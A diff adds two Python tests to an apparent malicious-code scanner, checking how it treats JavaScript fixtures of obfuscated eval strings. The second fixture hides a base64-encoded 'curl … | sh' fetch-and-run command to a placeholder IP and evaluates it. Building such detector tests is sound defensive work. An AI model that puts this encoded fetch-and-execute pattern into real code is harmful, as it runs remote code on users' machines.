@@ -500,3 +500,28 @@ def test_a_redacting_filter_and_a_configured_collector_do_not_block(tmp_path: Pa
         '    logging.getLogger().info("started")\n'
     )
     assert blocking(tmp_path, {"obs.py": code}) == {}
+
+
+# ------------------------------------------------ JavaScript strings kept as data in a file that runs nothing
+
+
+def test_a_module_of_sample_strings_that_runs_nothing_does_not_block(tmp_path: Path) -> None:
+    code = (
+        "// samples a detector must flag\n"
+        "module.exports = [\n"
+        "  \"new Function(atob('cmV0dXJuIDI='))()\",\n"
+        "  \"eval(Buffer.from('cmV0dXJuIDI=', 'base64').toString())\",\n"
+        "];\n"
+    )
+    assert blocking(tmp_path, {"test/samples.js": code}) == {}
+
+
+def test_sample_strings_in_a_file_that_evaluates_them_block(tmp_path: Path) -> None:
+    code = (
+        "const samples = [\n"
+        "  \"eval(atob('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvcCB8IHNo'))\",\n"
+        '  "void 0",\n'
+        "];\n"
+        "samples.forEach((s) => eval(s));\n"
+    )
+    assert blocking(tmp_path, {"lib/samples.js": code})
